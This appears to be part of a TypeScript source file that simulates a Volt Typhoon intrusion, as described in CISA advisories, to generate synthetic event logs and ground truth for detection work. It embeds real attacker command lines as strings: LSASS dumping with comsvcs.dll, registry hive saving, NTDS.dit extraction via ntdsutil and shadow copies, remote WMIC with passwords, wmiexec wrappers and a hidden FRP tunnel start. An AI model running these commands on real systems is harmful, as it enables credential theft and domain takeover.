/**
 * The intrusion: Volt Typhoon's chain as CISA AA23-144A and AA24-038A describe it (intel digest §2, §5), played
 * against the simulated network. A password spray and a valid account from a compromised SOHO router open a
 * Remote Desktop session on an edge-facing host; hands-on-keyboard discovery with built-in tools follows, an FRP
 * client started hidden by PowerShell, WMI to a second host for an lsass dump and saved hives, a domain admin's
 * RDP session on the domain controller and Impacket-style wmiexec there, AD and logon-event discovery, NTDS.dit
 * taken by ntdsutil IFM and from a shadow copy, staged in an archive, PsExec and RDP to the jump server at the
 * IT/OT boundary (credential stores, a port proxy and traffic through it), RDP on to an OT engineering
 * workstation, and the logs of the domain controller cleared.
 *
 * Command lines are the advisories' (digest §2.2: C1, C2, C3/C4, C5, C6, C7, C8, C9) with their redactions filled
 * in from the simulated network. Which hosts, accounts, names, ports, variants and times are drawn per seed;
 * every step happens for every seed. Every record an act leaves, on the acting and on the reached host, is listed
 * under its step in the ground truth.
 */

import type { Recorder, Source, SpawnOptions } from "./actions.js";
import { INDICATOR_SHA256, imageInfo, imageOfCommand, MICROSOFT_FRP_SHA256 } from "./catalog.js";
import {
  ESENT_DATABASE_ATTACHED_326,
  ESENT_DATABASE_CREATED_325,
  ESENT_DATABASE_DETACHED_327,
  ESENT_LOCATION_CHANGE_216,
} from "./event-templates.js";
import type { StepDefinition } from "./ground-truth.js";
import { type Process, principalOf, type Session } from "./host-state.js";
import { type Account, type Host, type Network, qualifiedName } from "./network.js";
import type { Random } from "./random.js";
import { compareRecords, type SimRecord } from "./sim-record.js";

export interface IntrusionPlan {
  readonly steps: readonly StepDefinition[];
  /** Every record of the intrusion, in time order. */
  readonly records: readonly SimRecord[];
  readonly compromisedHosts: readonly string[];
  readonly compromisedAccounts: readonly string[];
  readonly externalAddresses: readonly string[];
  readonly start: number;
  readonly end: number;
}

const MINUTE = 60_000;
const HOUR = 60 * MINUTE;

/** FRP/Earthworm client names from AA23 and AA24 (digest §3.2). */
const FRP_NAMES = [
  "SMSvcService.exe",
  "BrightmetricAgent.exe",
  "cisco_up.exe",
  "cl64.exe",
  "vm3dservice.exe",
  "watchdogd.exe",
  "Win.exe",
  "WmiPreSV.exe",
];
/** Hard-coded FRP callback ports (AA23, digest §3.5). */
const FRP_PORTS = [8080, 8443, 8043, 8000, 10443];
/** NTDS.dit IFM staging folders of C6. */
const IFM_FOLDERS = [
  "C:\\Windows\\Temp\\tmp",
  "C:\\Windows\\Temp\\Pro",
  "C:\\Windows\\Temp\\McAfee_Logs",
  "C:\\users\\public\\Appfile",
];
const PASSWORDS = ["Summer2024!", "Welcome@123", "Winter2025$", "P@ssw0rd2024", "Changeme#1"];
/** Accounts a spray tries that do not exist. */
const SPRAY_GUESSES = ["administrator", "admin", "test", "scanner", "backup", "guest", "helpdesk", "support"];

/** Step identifiers, the same for every seed. */
export const STEP_IDS = [
  "password-spray",
  "valid-account-logon",
  "discovery-burst",
  "frp-proxy-client",
  "powershell-hidden-start",
  "lateral-wmic-remote",
  "lsass-dump-comsvcs",
  "reg-save-hives",
  "rdp-domain-admin-to-dc",
  "impacket-wmiexec",
  "ad-discovery",
  "logon-event-discovery",
  "ntdsutil-ifm",
  "vss-shadow-create",
  "vss-ntds-copy",
  "archive-staging",
  "psexec-to-jump-server",
  "credential-store-discovery",
  "portproxy-add",
  "portproxy-traffic",
  "rdp-to-jump-server",
  "rdp-to-ot-workstation",
  "ot-workstation-discovery",
  "log-clearing",
] as const;

export type StepId = (typeof STEP_IDS)[number];

class Intrusion {
  private readonly steps = new Map<StepId, StepDefinition>();
  private readonly net: Network;
  private readonly entry: Host;
  private readonly pivot: Host;
  private readonly dc: Host;
  private readonly jump: Host;
  private readonly ews: Host;
  private readonly initial: Account;
  private readonly admin: Account;
  private readonly sohoSpray: string;
  private readonly sohoLogon: string;
  private readonly vps: string;
  /** The computer name the intruder's RDP client announces. */
  private readonly clientName: string;
  private readonly password: string;
  /** State carried from one step to the next. */
  private frpCallbacks: { host: Host; proc: Process; port: number; from: number } | null = null;
  private impacket: { session: Session; output: string } | null = null;
  private ifmFolder = "C:\\Windows\\Temp\\tmp";

  constructor(
    private readonly rec: Recorder,
    private readonly rng: Random,
  ) {
    const net = rec.network;
    this.net = net;
    const r = net.roles;
    // The edge-facing host: a member server or a workstation (port-forwarded RDP, as on many small utilities).
    const edgeFacing = [...r["file-server"], ...r["app-server"], ...r.workstation];
    this.entry = rng.pick(edgeFacing);
    const pivots = [...r["file-server"], ...r["app-server"], ...r.workstation].filter((h) => h !== this.entry);
    this.pivot = rng.pick(pivots);
    this.dc = rng.pick(r["domain-controller"]);
    this.jump = r["jump-server"][0];
    this.ews = rng.pick(r["engineering-workstation"]);
    this.initial = rng.pick(net.accountsOf["server-admin"]);
    this.admin = rng.pick(net.accountsOf["domain-admin"]);
    const [a, b] = rng.sample(net.intruder.sohoRouters, 2);
    this.sohoSpray = a;
    this.sohoLogon = b;
    this.vps = net.intruder.vps;
    const letters = "ABCDEFGHJKLMNPQRSTUVWXYZ0123456789";
    let suffix = "";
    for (let i = 0; i < 7; i++) suffix += letters[rng.int(0, letters.length - 1)];
    this.clientName = `DESKTOP-${suffix}`;
    this.password = rng.pick(PASSWORDS);
  }

  private define(id: StepId, technique: string, tactic: string, host: Host, description: string): void {
    this.steps.set(id, { id, technique, tactic, description, host: host.fqdn });
  }

  /** Records emitted inside `fn` belong to the given steps. */
  private as<T>(steps: readonly StepId[], fn: () => T): T {
    const saved = this.rec.steps;
    this.rec.steps = steps;
    try {
      return fn();
    } finally {
      this.rec.steps = saved;
    }
  }

  private jitter(minSeconds: number, maxSeconds: number): number {
    return this.rng.real(minSeconds, maxSeconds) * 1000;
  }

  private run(host: Host, time: number, parent: Process, commandLine: string, options: SpawnOptions = {}): Process {
    return this.rec.spawn(host, time, parent, imageOfCommand(commandLine), commandLine, options);
  }

  /** A command typed at an interactive cmd.exe; `net` starts `net1` as Windows does. */
  private typed(host: Host, time: number, shell: Process, commandLine: string): Process {
    const proc = this.run(host, time, shell, commandLine);
    if (/^net (group|user|localgroup|start)\b/i.test(commandLine)) {
      this.run(host, time + 40, proc, `C:\\Windows\\system32\\net1  ${commandLine.slice(4)}`);
    }
    return proc;
  }

  private source(host: Host): Source {
    return { ip: host.ip, workstation: host.name };
  }

  plan(start: number): { end: number; compromisedHosts: string[]; compromisedAccounts: string[] } {
    let t = start;
    t = this.passwordSpray(t);
    const entrySession = this.validAccountLogon(t);
    t = entrySession.next;
    t = this.discoveryBurst(t + this.jitter(60, 240), entrySession.shell);
    t = this.frpClient(t + this.jitter(300, 900), entrySession.shell);
    t = this.wmicToPivot(t + this.jitter(600, 1800), entrySession.shell);
    const dcSession = this.rdpToDc(t + this.jitter(900, 2400), entrySession.shell);
    t = dcSession.next;
    t = this.impacketOnDc(t + this.jitter(300, 900));
    t = this.logonEventDiscovery(t + this.jitter(300, 900), dcSession.shell);
    t = this.ntdsutil(t + this.jitter(600, 1500), dcSession.shell);
    t = this.shadowCopy(t + this.jitter(600, 1500), dcSession.shell);
    t = this.archive(t + this.jitter(300, 900), dcSession.shell);
    t = this.psexecToJump(t + this.jitter(1200, 3600), dcSession.shell);
    const jumpSession = this.rdpToJump(t + this.jitter(600, 1800), dcSession.shell);
    t = jumpSession.next;
    t = this.rdpToEws(t + this.jitter(600, 1500), jumpSession.shell);
    t = this.clearLogs(t + this.jitter(900, 2400), dcSession.shell);
    this.reconnect(t + this.jitter(1800, 5400), entrySession.session);
    const hosts = [this.entry, this.pivot, this.dc, this.jump, this.ews];
    return {
      end: t,
      compromisedHosts: hosts.map((h) => h.fqdn),
      compromisedAccounts: [qualifiedName(this.initial), qualifiedName(this.admin)],
    };
  }

  stepDefinitions(): StepDefinition[] {
    return STEP_IDS.map((id) => {
      const s = this.steps.get(id);
      if (s === undefined) throw new Error(`step ${id} was not played`);
      return s;
    });
  }

  // ---- initial access ----------------------------------------------------------------------------------------

  /** Many accounts, one or two attempts each, from one SOHO router address: 4625 on the edge-facing host. */
  private passwordSpray(start: number): number {
    const net = this.net;
    const targets = this.rng.sample(
      [
        ...net.accountsOf.user,
        ...net.accountsOf.helpdesk,
        ...net.accountsOf.engineer,
        ...net.accountsOf["server-admin"].filter((a) => a !== this.initial),
      ],
      this.rng.int(14, 22),
    );
    const names = [...targets.map((a) => a.sam), ...this.rng.sample(SPRAY_GUESSES, this.rng.int(3, 6))];
    const order = this.rng.sample(names, names.length);
    this.define(
      "password-spray",
      "T1110.003",
      "credential-access",
      this.entry,
      `Password spray from SOHO router ${this.sohoSpray}: ${order.length} accounts tried over NTLM against ${this.entry.name} (4625, logon type 3), then a network logon of ${qualifiedName(this.initial)} from the same address (4624 type 3) when its password is found.`,
    );
    let t = start;
    this.as(["password-spray"], () => {
      for (const name of order) {
        t += this.jitter(2, 12);
        this.rec.failedLogon(this.entry, t, {
          name,
          type: 3,
          source: { ip: this.sohoSpray, workstation: this.clientName },
          auth: "NTLM",
          unknownUser: SPRAY_GUESSES.includes(name),
        });
      }
      t += this.jitter(3, 15);
      this.rec.logon(this.entry, t, {
        principal: principalOf(this.initial),
        type: 3,
        source: { ip: this.sohoSpray, workstation: this.clientName },
        auth: "NTLM",
      });
    });
    return t + this.jitter(120, 600);
  }

  private validAccountLogon(time: number): { session: Session; shell: Process; next: number } {
    this.define(
      "valid-account-logon",
      "T1078.002",
      "initial-access",
      this.entry,
      `Remote Desktop logon to the edge-facing ${this.entry.name} with the valid domain account ${qualifiedName(this.initial)} from compromised SOHO router ${this.sohoLogon} (1149, 4624 type 10, 4672, 21; later a reconnection: 1149, 4624 type 7, 25).`,
    );
    return this.as(["valid-account-logon"], () => {
      const { session, shell } = this.rec.rdpLogon(this.entry, time, this.initial, {
        ip: this.sohoLogon,
        workstation: this.clientName,
      });
      const cmdAt = time + this.jitter(20, 60);
      const cmd = this.rec.spawn(
        this.entry,
        cmdAt,
        shell,
        "C:\\Windows\\System32\\cmd.exe",
        '"C:\\Windows\\system32\\cmd.exe" ',
        {
          currentDirectory: `C:\\Users\\${this.initial.sam}\\`,
        },
      );
      return { session, shell: cmd, next: cmdAt };
    });
  }

  /** The intruder comes back to its disconnected session on the edge-facing host. */
  private reconnect(time: number, session: Session): void {
    this.as(["valid-account-logon"], () => {
      const host = this.entry;
      this.rec.rdpAuthenticated(host, time - this.jitter(1, 2), this.initial, this.sohoLogon);
      this.rec.logon(host, time, {
        principal: principalOf(this.initial),
        type: 7,
        source: { ip: this.sohoLogon, workstation: this.clientName },
        terminalSession: session.terminalSession,
      });
      this.rec.sessionReconnect(host, time + this.jitter(1, 3), session, this.sohoLogon);
    });
  }

  // ---- discovery on the entry host ---------------------------------------------------------------------------

  private discoveryBurst(start: number, shell: Process): number {
    const host = this.entry;
    // C1 always; then a draw of the AA23 enumeration list (C2) and AA24's additions.
    const pool = [
      "ipconfig /all",
      "whoami",
      "arp -a",
      "netstat -ano",
      "systeminfo",
      "tasklist /v",
      "net localgroup administrators",
      'net group "Domain Admins" /dom',
      "net group /dom",
      "netsh interface portproxy show all",
      "netsh interface firewall show all",
      "reg query hklm\\software\\",
      "curl www.ip-api.com",
      "wmic volume list brief",
      "wmic service brief",
      "wmic product list brief",
      "wmic baseboard list full",
      "quser",
      "net start",
      "net user",
    ];
    const chosen = this.rng.sample(pool, this.rng.int(9, 13));
    if (!chosen.includes("curl www.ip-api.com")) chosen[this.rng.int(0, chosen.length - 1)] = "curl www.ip-api.com";
    this.define(
      "discovery-burst",
      "T1082",
      "discovery",
      host,
      `Hands-on-keyboard discovery burst on ${host.name} as ${qualifiedName(this.initial)}: ${chosen.length + 1} built-in commands within minutes from one cmd.exe, starting with the AA23 logical-disk query (C1) and including ${chosen.slice(0, 4).join(", ")}.`,
    );
    let t = start;
    this.as(["discovery-burst"], () => {
      const c1 = this.run(
        host,
        t,
        shell,
        'cmd.exe /C "wmic path win32_logicaldisk get caption,filesystem,freespace,size,volumename"',
      );
      this.run(host, t + 30, c1, "wmic  path win32_logicaldisk get caption,filesystem,freespace,size,volumename");
      for (const command of chosen) {
        t += this.jitter(8, 50);
        const proc = this.typed(host, t, shell, command);
        if (command.startsWith("curl")) {
          this.rec.connect(host, t + 200, proc, {
            initiated: true,
            sourceIp: host.ip,
            sourceHostname: host.fqdn,
            sourcePort: this.rec.ephemeralPort(),
            destinationIp: "208.95.112.1",
            destinationHostname: "ip-api.com",
            destinationPort: 80,
          });
        }
      }
    });
    return t;
  }

  // ---- command and control -----------------------------------------------------------------------------------

  private frpClient(start: number, shell: Process): number {
    const host = this.entry;
    const name = this.rng.pick(FRP_NAMES);
    const folder = this.rng.pick(["C:\\Windows\\Temp", "C:\\Users\\Public"]);
    const path = `${folder}\\${name}`;
    const port = this.rng.pick(FRP_PORTS);
    const sha256 = INDICATOR_SHA256[name.toLowerCase()] ?? this.rng.pick(MICROSOFT_FRP_SHA256);
    const state = this.rec.state(host);
    this.define(
      "frp-proxy-client",
      "T1090",
      "command-and-control",
      host,
      `FRP client ${path} (advisory file name; Sysmon Hashes SHA256=${sha256.toUpperCase()}) copied over the RDP clipboard, started, and calling back to ${this.vps}:${port} until the end of the collection.`,
    );
    this.define(
      "powershell-hidden-start",
      "T1059.001",
      "execution",
      host,
      `PowerShell starts the FRP client from ${folder} hidden: powershell start-process -filepath ${path.toLowerCase()} -windowstyle hidden (Sysmon 1, 4688, 4104).`,
    );
    let t = start;
    const rdpclip = state.process(
      t,
      "C:\\Windows\\System32\\rdpclip.exe",
      "rdpclip",
      shell.session,
      "C:\\Windows\\system32\\",
    );
    this.as(["frp-proxy-client"], () => this.rec.createFile(host, t, rdpclip, path));
    t += this.jitter(40, 180);
    const command = `start-process -filepath ${path.toLowerCase()} -windowstyle hidden`;
    const ps = this.as(["powershell-hidden-start"], () => {
      const p = this.run(host, t, shell, `powershell ${command}`);
      this.rec.scriptBlock(host, t + 600, p, command);
      return p;
    });
    const frp = this.as(["frp-proxy-client"], () =>
      this.rec.spawn(host, t + 900, ps, path, `${path} `, { info: imageInfo(path, host.server, sha256) }),
    );
    // One long-lived tunnel, re-established every few hours, until the end of the collection.
    this.frpCallbacks = { host, proc: frp, port, from: t + 1500 };
    return t + 1500;
  }

  /** The FRP client's connections to its server, from its start to `until`. */
  callbacks(until: number): void {
    const c = this.frpCallbacks;
    if (c === null) return;
    this.as(["frp-proxy-client"], () => {
      for (let t = c.from; t < until; t += this.rng.real(1.5, 4) * HOUR) {
        this.rec.connect(c.host, t, c.proc, {
          initiated: true,
          sourceIp: c.host.ip,
          sourceHostname: c.host.fqdn,
          sourcePort: this.rec.ephemeralPort(),
          destinationIp: this.vps,
          destinationHostname: "-",
          destinationPort: c.port,
        });
      }
    });
  }

  // ---- lateral movement to the pivot over WMI ---------------------------------------------------------------

  /**
   * `wmic /node:<pivot> /user:<account> /password:"…" process call create "…"` (CrowdStrike's form): 4648 and
   * wmic.exe on the entry host; a network logon and WmiPrvSE.exe's cmd.exe on the pivot.
   */
  private remoteWmic(time: number, shell: Process, remoteCommand: string, steps: readonly StepId[]): Process {
    const from = this.entry;
    const to = this.pivot;
    const account = this.initial;
    const commandLine = `wmic /node:${to.name} /user:${qualifiedName(account)} /password:"${this.password}" process call create "${remoteCommand}"`;
    const wmic = this.as(["lateral-wmic-remote", ...steps], () => this.run(from, time, shell, commandLine));
    return this.as(["lateral-wmic-remote"], () => {
      this.rec.explicitCredentials(from, time + 150, wmic, account, {
        name: to.name,
        info: to.name,
        ip: to.ip,
        port: 135,
      });
      this.rec.connectHosts(from, time + 200, wmic, to, 135, this.rec.state(to).dcomLaunch);
      const session = this.rec.logon(to, time + 400, {
        principal: principalOf(account),
        type: 3,
        source: this.source(from),
        auth: "NTLM",
        integrity: "High",
      });
      const wmiPrvSe = this.rec.state(to).wmiPrvSe;
      return this.as(["lateral-wmic-remote", ...steps], () =>
        this.run(to, time + 900, wmiPrvSe, remoteCommand, { session, currentDirectory: "C:\\Windows\\system32\\" }),
      );
    });
  }

  private wmicToPivot(start: number, shell: Process): number {
    const to = this.pivot;
    const temp = `C:\\Users\\${this.initial.sam}\\AppData\\Local\\Temp`;
    const out = `${temp}\\${this.rng.hex(4).toUpperCase()}.tmp`;
    this.define(
      "lateral-wmic-remote",
      "T1047",
      "lateral-movement",
      to,
      `WMIC remote process creation from ${this.entry.name} to ${to.name} with explicit credentials of ${qualifiedName(this.initial)} (wmic /node:${to.name} /user:… /password:… process call create; 4648 on the source, 4624 type 3 and WmiPrvSE.exe children on the target).`,
    );
    const lsassPid = this.rec.state(to).lsass.pid;
    const dump = `C:\\Windows\\Temp\\${this.rng.pick(["debug", "wmi", "mem", "perf"])}.dmp`;
    this.define(
      "lsass-dump-comsvcs",
      "T1003.001",
      "credential-access",
      to,
      `LSASS memory dumped on ${to.name} with a comsvcs.dll copied to C:\\Windows\\Temp (non-standard folder, AA24): rundll32.exe C:\\Windows\\Temp\\comsvcs.dll, MiniDump ${lsassPid} ${dump} full.`,
    );
    this.define(
      "reg-save-hives",
      "T1003.002",
      "credential-access",
      to,
      `SAM and SYSTEM hives saved on ${to.name}: reg save hklm\\sam ss.dat, reg save hklm\\system sy.dat (C8).`,
    );
    let t = start;
    const nltest = this.remoteWmic(t, shell, `cmd /c nltest /DOMAIN_TRUSTS >>${out}`, []);
    this.as(["lateral-wmic-remote"], () => {
      this.run(to, t + 1000, nltest, "nltest  /DOMAIN_TRUSTS");
      this.rec.createFile(to, t + 1100, nltest, out);
    });

    t += this.jitter(120, 600);
    const toState = this.rec.state(to);
    this.as(["lsass-dump-comsvcs"], () =>
      this.rec.createFile(to, t - 30_000, toState.kernel, "C:\\Windows\\Temp\\comsvcs.dll"),
    );
    const dumpCommand = `cmd.exe /c rundll32.exe C:\\Windows\\Temp\\comsvcs.dll, MiniDump ${lsassPid} ${dump} full`;
    const dumpShell = this.remoteWmic(t, shell, dumpCommand, ["lsass-dump-comsvcs"]);
    this.as(["lsass-dump-comsvcs"], () => {
      const rundll = this.run(
        to,
        t + 1100,
        dumpShell,
        `rundll32.exe  C:\\Windows\\Temp\\comsvcs.dll, MiniDump ${lsassPid} ${dump} full`,
      );
      this.rec.createFile(to, t + 4000, rundll, dump);
    });

    t += this.jitter(120, 600);
    const saveShell = this.remoteWmic(t, shell, "cmd.exe /c reg save hklm\\sam ss.dat & reg save hklm\\system sy.dat", [
      "reg-save-hives",
    ]);
    this.as(["reg-save-hives"], () => {
      const sam = this.run(to, t + 1100, saveShell, "reg  save hklm\\sam ss.dat");
      this.rec.createFile(to, t + 1500, sam, "C:\\Windows\\system32\\ss.dat");
      const system = this.run(to, t + 2500, saveShell, "reg  save hklm\\system sy.dat");
      this.rec.createFile(to, t + 3500, system, "C:\\Windows\\system32\\sy.dat");
    });
    return t + 4000;
  }

  // ---- the domain controller ---------------------------------------------------------------------------------

  /** Remote Desktop from `shell`'s session to `to`, and a cmd.exe in the new session. */
  private rdp(
    from: Host,
    time: number,
    shell: Process,
    to: Host,
    account: Account,
  ): { session: Session; shell: Process } {
    const logon = this.rec.remoteDesktop(from, time, shell, to, account);
    const cmdAt = time + this.jitter(60, 120);
    const cmd = this.rec.spawn(
      to,
      cmdAt,
      logon.shell,
      "C:\\Windows\\System32\\cmd.exe",
      '"C:\\Windows\\system32\\cmd.exe" ',
      {
        currentDirectory: `C:\\Users\\${account.sam}\\`,
      },
    );
    return { session: logon.session, shell: cmd };
  }

  private rdpToDc(time: number, entryShell: Process): { shell: Process; next: number } {
    this.define(
      "rdp-domain-admin-to-dc",
      "T1021.001",
      "lateral-movement",
      this.dc,
      `Remote Desktop from ${this.entry.name} to the domain controller ${this.dc.name} with domain admin ${qualifiedName(this.admin)} taken from the lsass dump (mstsc and 4648 on the source; 1149, 4624 type 10, 4672, 21 on the DC).`,
    );
    return this.as(["rdp-domain-admin-to-dc"], () => {
      const { shell } = this.rdp(this.entry, time, entryShell, this.dc, this.admin);
      return { shell, next: time + 2 * MINUTE };
    });
  }

  /**
   * Impacket wmiexec from the entry host with the domain admin's hash: each command is
   * `cmd.exe /Q /c <cmd> 1> \\127.0.0.1\ADMIN$\__<epoch> 2>&1`, child of WmiPrvSE.exe, its output read back
   * over ADMIN$ (5140, 5145 with RelativeTargetName `__<epoch>`).
   */
  private impacketOnDc(start: number): number {
    const dc = this.dc;
    this.define(
      "impacket-wmiexec",
      "T1047",
      "execution",
      dc,
      `Impacket wmiexec from ${this.entry.name} to ${dc.name} as ${qualifiedName(this.admin)} over NTLM: cmd.exe /Q /c … 1> \\\\127.0.0.1\\ADMIN$\\__<epoch> 2>&1 under WmiPrvSE.exe, output read over ADMIN$ (5140, 5145).`,
    );
    this.define(
      "ad-discovery",
      "T1087.002",
      "discovery",
      dc,
      `Active Directory and DNS discovery on ${dc.name}: ldifde.exe -f c:\\windows\\temp\\cisco_up.txt -p subtree, dnscmd . /enumzones, dnscmd . /enumrecords /zone ${this.net.domain.dns}, net group "domain controllers" /dom, nltest /DOMAIN_TRUSTS.`,
    );
    const commands = [
      "ldifde.exe -f c:\\windows\\temp\\cisco_up.txt -p subtree",
      "dnscmd . /enumzones",
      `dnscmd . /enumrecords /zone ${this.net.domain.dns}`,
      'net group "domain controllers" /dom',
      "nltest /DOMAIN_TRUSTS",
    ];
    this.impacket = this.openWmiexec(start);
    let t = start + this.jitter(5, 20);
    for (const command of this.rng.sample(commands, commands.length)) {
      t += this.jitter(20, 90);
      const wrapper = this.wmiexecCommand(t, command, ["ad-discovery"]);
      this.as(["ad-discovery"], () => {
        const proc = this.typed(dc, t + 300, wrapper, command);
        if (command.startsWith("ldifde")) this.rec.createFile(dc, t + 2500, proc, "C:\\Windows\\Temp\\cisco_up.txt");
      });
    }
    return t;
  }

  /** The network logon and ADMIN$ connection a wmiexec session opens. */
  private openWmiexec(time: number): { session: Session; output: string } {
    const dc = this.dc;
    const epoch = `${Math.floor(time / 1000)}.${String(this.rng.int(0, 999999)).padStart(6, "0")}`;
    return this.as(["impacket-wmiexec"], () => {
      const session = this.rec.logon(dc, time, {
        principal: principalOf(this.admin),
        type: 3,
        source: this.source(this.entry),
        auth: "NTLM",
        integrity: "High",
      });
      this.rec.shareAccess(dc, time + 300, session, {
        share: "\\\\*\\ADMIN$",
        localPath: "\\??\\C:\\Windows",
        source: this.source(this.entry),
      });
      return { session, output: `__${epoch}` };
    });
  }

  /** One wmiexec command: its cmd.exe under WmiPrvSE.exe and the output file written and read over ADMIN$. */
  private wmiexecCommand(time: number, command: string, steps: readonly StepId[]): Process {
    const w = this.impacket;
    if (w === null) throw new Error("wmiexec session not open");
    const dc = this.dc;
    const state = this.rec.state(dc);
    const wrapper = this.as(["impacket-wmiexec", ...steps], () =>
      this.rec.spawn(
        dc,
        time,
        state.wmiPrvSe,
        "C:\\Windows\\System32\\cmd.exe",
        `cmd.exe /Q /c ${command} 1> \\\\127.0.0.1\\ADMIN$\\${w.output} 2>&1`,
        { session: w.session, currentDirectory: "C:\\" },
      ),
    );
    this.as(["impacket-wmiexec"], () => {
      // cmd.exe writes the output through the loopback share, then wmiexec reads it back over its own connection.
      this.rec.shareAccess(dc, time + 400, w.session, {
        share: "\\\\*\\ADMIN$",
        localPath: "\\??\\C:\\Windows",
        source: { ip: "127.0.0.1", workstation: dc.name },
        files: [w.output],
        accessMask: 0x2,
        connect: false,
      });
      this.rec.shareAccess(dc, time + 1500, w.session, {
        share: "\\\\*\\ADMIN$",
        localPath: "\\??\\C:\\Windows",
        source: this.source(this.entry),
        files: [w.output],
        connect: false,
      });
    });
    return wrapper;
  }

  private logonEventDiscovery(start: number, shell: Process): number {
    const dc = this.dc;
    const day = new Date(start - 2 * 24 * HOUR).toISOString().slice(0, 10);
    const c4 = `Get-EventLog security -instanceid 4624 -after ${day} | fl * | Out-File 'C:\\users\\public\\documents\\user.dat'`;
    const user = this.rng.pick(this.net.accountsOf.user).sam;
    const c5 = `wevtutil qe security /rd:true /f:text /q:*[System[(EventID=4624) and TimeCreated[@SystemTime>='${day}T00:00:00']] and EventData[Data='${user}']]`;
    this.define(
      "logon-event-discovery",
      "T1654",
      "discovery",
      dc,
      `Logon events read on ${dc.name}: PowerShell ${c4} (AA24 C4, 4104 and user.dat in Sysmon 11), Get-EventLog security -instanceid 4624 (C3), and ${c5} (C5).`,
    );
    let t = start;
    this.as(["logon-event-discovery"], () => {
      const ps = this.run(dc, t, shell, "powershell.exe");
      t += this.jitter(20, 60);
      this.rec.scriptBlock(dc, t, ps, "Get-EventLog security -instanceid 4624");
      t += this.jitter(60, 180);
      this.rec.scriptBlock(dc, t, ps, c4);
      this.rec.createFile(dc, t + 2500, ps, "C:\\Users\\Public\\Documents\\user.dat");
      t += this.jitter(60, 240);
      this.typed(dc, t, shell, c5);
    });
    return t;
  }

  // ---- NTDS.dit ----------------------------------------------------------------------------------------------

  private ntdsutil(start: number, shell: Process): number {
    const dc = this.dc;
    const folder = this.rng.pick(IFM_FOLDERS);
    const inner = `ntdsutil \\"ac i ntds\\" ifm \\"create full ${folder}\\" q q`;
    const viaImpacket = this.rng.chance(0.5);
    const wmicLine = `wmic process call create "cmd.exe /c mkdir ${folder} & ${inner}"`;
    this.define(
      "ntdsutil-ifm",
      "T1003.003",
      "credential-access",
      dc,
      `NTDS.dit copied with ntdsutil IFM into ${folder} (C6): ${viaImpacket ? `cmd.exe /Q /c ${wmicLine} 1> \\\\127.0.0.1\\ADMIN$\\__<epoch> 2>&1 over wmiexec` : wmicLine}; ntdsutil "ac i ntds" ifm "create full ${folder}" q q under WmiPrvSE.exe's cmd.exe; ESENT 216, 325, 326, 327 naming ntds.dit; the IFM tree in Sysmon 11.`,
    );
    let t = start;
    const wmic = viaImpacket
      ? this.wmiexecCommand(t, wmicLine, ["ntdsutil-ifm"])
      : this.as(["ntdsutil-ifm"], () => this.run(dc, t, shell, wmicLine));
    const state = this.rec.state(dc);
    return this.as(["ntdsutil-ifm"], () => {
      if (viaImpacket) this.run(dc, t + 200, wmic, wmicLine.replace("wmic process", "wmic  process"));
      const session = wmic.session;
      const cmd = this.rec.spawn(
        dc,
        t + 900,
        state.wmiPrvSe,
        "C:\\Windows\\System32\\cmd.exe",
        `cmd.exe /c mkdir ${folder} & ntdsutil "ac i ntds" ifm "create full ${folder}" q q`,
        { session, currentDirectory: "C:\\Windows\\system32\\" },
      );
      const ntds = this.run(dc, t + 1100, cmd, `ntdsutil  "ac i ntds" ifm "create full ${folder}" q q`);
      const pid = String(ntds.pid);
      const stamp = new Date(t).toISOString().replace(/[-:T]/g, "").slice(0, 12);
      const snapshot = `C:\\$SNAP_${stamp}_VOLUMEC$\\Windows\\NTDS\\ntds.dit`;
      const copy = `${folder}\\Active Directory\\ntds.dit`;
      const timings =
        "[1] 0.000, [2] 0.000, [3] 0.000, [4] 0.016, [5] 0.000, [6] 0.000, [7] 0.000, [8] 0.000, [9] 0.000, [10] 0.000, [11] 0.000, [12] 0.000.";
      t += 4000;
      this.rec.esent(dc, t, ESENT_LOCATION_CHANGE_216, ["NTDS", pid, "", "C:\\Windows\\NTDS\\ntds.dit", snapshot]);
      this.rec.esent(dc, t + 120, ESENT_DATABASE_ATTACHED_326, ["NTDS", pid, "", "1", snapshot, "0", timings, "1 0"]);
      this.rec.esent(dc, t + 2400, ESENT_DATABASE_CREATED_325, ["NTDS", pid, "", "2", copy, "0", timings]);
      this.rec.createFile(dc, t + 2500, ntds, copy);
      this.rec.createFile(dc, t + 2600, ntds, `${folder}\\Active Directory\\ntds.jfm`);
      this.rec.esent(dc, t + 9000, ESENT_DATABASE_DETACHED_327, ["NTDS", pid, "", "2", copy, "0", timings, "0 0"]);
      this.rec.esent(dc, t + 9300, ESENT_DATABASE_DETACHED_327, ["NTDS", pid, "", "1", snapshot, "0", timings, "0 0"]);
      this.rec.createFile(dc, t + 10_500, ntds, `${folder}\\registry\\SYSTEM`);
      this.rec.createFile(dc, t + 10_900, ntds, `${folder}\\registry\\SECURITY`);
      this.ifmFolder = folder;
      return t + 11_000;
    });
  }

  private shadowCopy(start: number, shell: Process): number {
    const dc = this.dc;
    const file = `${this.rng.hex(4).toUpperCase()}.tmp`;
    const volume = `\\\\?\\GLOBALROOT\\Device\\HarddiskVolumeShadowCopy${this.rng.int(2, 9)}`;
    const create = `cmd /c vssadmin create shadow /for=C: > C:\\Windows\\Temp\\${file}`;
    const copies = [
      `cmd /c copy ${volume}\\Windows\\NTDS\\ntds.dit C:\\Windows\\Temp > C:\\Windows\\Temp\\${file}`,
      `cmd /c copy ${volume}\\Windows\\System32\\config\\SYSTEM C:\\Windows\\Temp > C:\\Windows\\Temp\\${file}`,
    ];
    this.define(
      "vss-shadow-create",
      "T1006",
      "defense-evasion",
      dc,
      `Volume shadow copy of C: on ${dc.name}: ${create} (C7).`,
    );
    this.define(
      "vss-ntds-copy",
      "T1003.003",
      "credential-access",
      dc,
      `ntds.dit and the SYSTEM hive copied out of the shadow copy on ${dc.name}: ${copies.join("; ")} (C7).`,
    );
    let t = start;
    const state = this.rec.state(dc);
    this.as(["vss-shadow-create"], () => {
      const cmd = this.run(dc, t, shell, create);
      this.run(dc, t + 60, cmd, "vssadmin  create shadow /for=C:");
      this.rec.spawn(
        dc,
        t + 500,
        state.services,
        "C:\\Windows\\System32\\vssvc.exe",
        "C:\\Windows\\system32\\vssvc.exe",
        {
          session: state.system,
        },
      );
      this.rec.createFile(dc, t + 80, cmd, `C:\\Windows\\Temp\\${file}`);
    });
    t += this.jitter(60, 300);
    this.as(["vss-ntds-copy"], () => {
      for (const [i, line] of copies.entries()) {
        t += this.jitter(15, 90);
        const cmd = this.run(dc, t, shell, line);
